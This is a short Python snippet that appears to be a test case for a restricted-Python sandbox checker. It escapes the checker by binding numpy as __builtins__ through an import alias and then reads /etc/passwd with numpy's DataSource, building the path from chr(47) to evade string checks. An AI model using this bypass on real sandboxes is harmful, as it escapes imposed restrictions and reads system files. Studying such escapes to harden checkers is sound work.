# source: CPython 3.11 Objects/frameobject.c _PyEval_BuiltinsFromGlobals (a function's builtins are globals['__builtins__'], a module allowed) ; classic pyjail '__builtins__' replacement write-ups; numpy/lib/_datasource.py DataSource.open (opens any local path)
# family: builtins swap: 'import M as __builtins__' (import alias is a dunder binding the check does not gate); defs made after it look up bare names in M's globals, which the check reads as unknown plain names
# goal: reads /etc/passwd with numpy's DataSource reached as a bare name (numpy as builtins)
import numpy as __builtins__

def read_text(p):
    return DataSource(None).open(p).read()

path = chr(47) + "etc" + chr(47) + "passwd"
print(read_text(path)[:200])
